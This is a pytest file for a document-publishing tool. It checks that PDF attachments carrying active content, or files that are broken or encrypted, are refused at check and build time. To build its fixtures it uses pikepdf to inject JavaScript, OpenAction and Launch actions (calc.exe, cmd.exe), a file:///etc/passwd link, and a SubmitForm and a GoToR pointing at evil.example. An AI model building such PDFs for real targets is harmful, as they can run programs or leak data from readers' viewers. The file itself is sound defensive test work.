"""Hostile attachments: a PDF that could act in a reader's viewer is refused, at 'check' and at build."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from click.testing import CliRunner
from pikepdf import Array, Dictionary, Name, String

from decision_press.build import build_site
from decision_press.cli import main
from decision_press.errors import BuildFailed, InvalidRecords
from decision_press.mkdocs_plugin.runner import run_mkdocs_build
from decision_press.model.attachment_pdf import MAX_ATTACHMENT_BYTES, inspect_pdf
from decision_press.model.validate import load_records
from decision_press.settings import load_settings

AS_OF = dt.date(2026, 11, 26)
ATTACHMENT = "data/attachments/pcd-1040-site-plan.pdf"
"""PCD 1040's site plan (data/decisions/examples.yaml), the example project's one attachment."""
LINE = 350
"""The line of its 'file:' in data/decisions/examples.yaml."""


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    """A link annotation over the top of the first page that runs ``action``."""
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), Border=Array([0, 0, 0]), A=action)
    )
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), annotation])


def _javascript_in_names(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), script])))


def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def apply(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return apply


def _link_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: _link(pdf, action)


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program")


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


def _field_script(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([0, 0, 100, 20]),
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.value = 1"))),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _page_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.org/tracker")))


def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"secret", filename="notes.txt")
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))  # harmless on its own
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec.obj)
        )
    )


HOSTILE: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
    "javascript-names": (_javascript_in_names, "JavaScript"),
    "openaction-javascript": (
        _open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
        "an action run when the file is opened (OpenAction)",
    ),
    "openaction-launch": (_open_action(Dictionary(S=Name.Launch, F=String("calc.exe"))), "a Launch action"),
    "launch": (_link_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "a Launch action"),
    "uri-file": (
        _link_action(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        "a link to 'file:///etc/passwd'",
    ),
    "uri-javascript": (
        _link_action(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        "a link to 'javascript:alert(1)'",
    ),
    "submit-form": (
        _link_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
        "a SubmitForm action",
    ),
    "import-data": (_link_action(Dictionary(S=Name.ImportData, F=String("data.fdf"))), "a ImportData action"),
    "goto-remote": (
        _link_action(Dictionary(S=Name.GoToR, F=String("//evil.example/share/x.pdf"), D=Array([0, Name.Fit]))),
        "a GoToR action",
    ),
    "goto-embedded": (_link_action(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")))), "a GoToE action"),
    "embedded-file": (_embedded_file, "embedded files"),
    "file-attachment-annotation": (_file_attachment_annotation, "a FileAttachment annotation"),
    "xfa": (_xfa, "an XFA form"),
    "form-field-script": (_field_script, "JavaScript"),
    "page-automatic-action": (_page_open_action, "actions that run by themselves"),
}
"""One PDF per kind of active content, and the words 'check' must use for it."""


def hostile_pdf(original: bytes, kind: str) -> bytes:
    """``original`` (a real PDF) with one kind of active content added by pikepdf."""
    with pikepdf.open(io.BytesIO(original)) as pdf:
        HOSTILE[kind][0](pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _encrypted(original: bytes, user: str) -> bytes:
    with pikepdf.open(io.BytesIO(original)) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user))
    return out.getvalue()


BROKEN: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "only-a-header": (lambda _: b"%PDF-1.7\n% nothing else\n", "it is not a PDF file that opens"),
    "html": (lambda _: b"<html>not a pdf</html>", "it is not a PDF file (it does not start with %PDF-)"),
    "truncated": (lambda data: data[: len(data) // 3], "it is not a PDF file that opens"),
    "encrypted": (lambda data: _encrypted(data, "reader-secret"), "it is encrypted (it needs a password to open)"),
    "owner-password-only": (lambda data: _encrypted(data, ""), "it is encrypted (a password or usage restrictions)"),
}
"""Files that are not a PDF anyone can open as it is."""

CASES = {**{k: (lambda data, kind=k: hostile_pdf(data, kind), words) for k, (_, words) in HOSTILE.items()}, **BROKEN}


def _replace_attachment(project: Path, kind: str) -> bytes:
    path = project / ATTACHMENT
    data = CASES[kind][0](path.read_bytes())
    path.write_bytes(data)
    return data


def test_the_example_attachment_is_clean(project: Path) -> None:
    inspection = inspect_pdf(project / ATTACHMENT)
    assert inspection.problem == ""
    assert inspection.pages == 1


@pytest.mark.parametrize("kind", CASES)
def test_check_refuses_the_attachment_naming_file_and_problem(project: Path, kind: str) -> None:
    _replace_attachment(project, kind)
    with pytest.raises(InvalidRecords) as caught:
        load_records(load_settings(project))
    [problem] = caught.value.problems
    assert (problem.path, problem.line, problem.field) == (
        "data/decisions/examples.yaml",
        LINE,
        "[2].attachments[0].file",
    )
    assert problem.message.startswith(f"'{ATTACHMENT}' cannot be published: it ")
    assert CASES[kind][1] in problem.message
    assert "re-export the PDF" in problem.hint


def test_check_prints_it_without_a_traceback(project: Path) -> None:
    _replace_attachment(project, "openaction-launch")
    result = CliRunner().invoke(main, ["--project", str(project), "check"])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    expected = (
        f"data/decisions/examples.yaml:{LINE}:7: [2].attachments[0].file: '{ATTACHMENT}' cannot be "
        "published: it contains an action run when the file is opened (OpenAction); a Launch action"
    )
    assert expected in result.output
    assert "hint: re-export the PDF without scripts" in result.output


@pytest.mark.parametrize("kind", ["javascript-names", "uri-file", "embedded-file", "only-a-header"])
def test_a_build_refuses_and_publishes_nothing_of_it(project: Path, kind: str) -> None:
    data = _replace_attachment(project, kind)
    site = project / "site"
    result = CliRunner().invoke(main, ["--project", str(project), "build", "--as-of", AS_OF.isoformat()])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert f"[2].attachments[0].file: '{ATTACHMENT}' cannot be published: " in result.output
    assert CASES[kind][1] in result.output
    with pytest.raises(BuildFailed):  # the build itself refuses too, whoever calls it
        build_site(load_settings(project), AS_OF, run_mkdocs_build, site)
    assert not site.exists()
    for path in project.parent.rglob("*"):  # staging folders, caches: nowhere beside the source
        if path.is_file() and path != project / ATTACHMENT:
            assert path.read_bytes() != data, path


def test_a_file_changed_after_check_is_refused_when_published(project: Path) -> None:
    from decision_press.pipeline import prepare
    from decision_press.render.pdf import render_all

    corpus, _, _ = prepare(load_settings(project), AS_OF)
    _replace_attachment(project, "launch")
    with pytest.raises(BuildFailed, match="cannot be published: it contains a Launch action"):
        render_all(corpus, project.parent / "cache", workers=1)
    cache = project.parent / "cache"
    assert not any(p.suffix == ".pdf" and "Launch" in p.read_bytes().decode("latin-1") for p in cache.rglob("*"))


def test_pages_are_counted_by_the_pdf_library(tmp_path: Path) -> None:
    pdf = pikepdf.new()
    for _ in range(4):
        pdf.add_blank_page()
    pdf.save(tmp_path / "four.pdf")
    assert inspect_pdf(tmp_path / "four.pdf") == inspect_pdf((tmp_path / "four.pdf").read_bytes())
    assert inspect_pdf(tmp_path / "four.pdf").pages == 4


def test_a_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge = tmp_path / "huge.pdf"
    with huge.open("wb") as handle:
        handle.write(b"%PDF-1.7\n")
        handle.truncate(MAX_ATTACHMENT_BYTES + 1)  # sparse: no disk space used
    assert inspect_pdf(huge).problem == "it is larger than 50 MB"
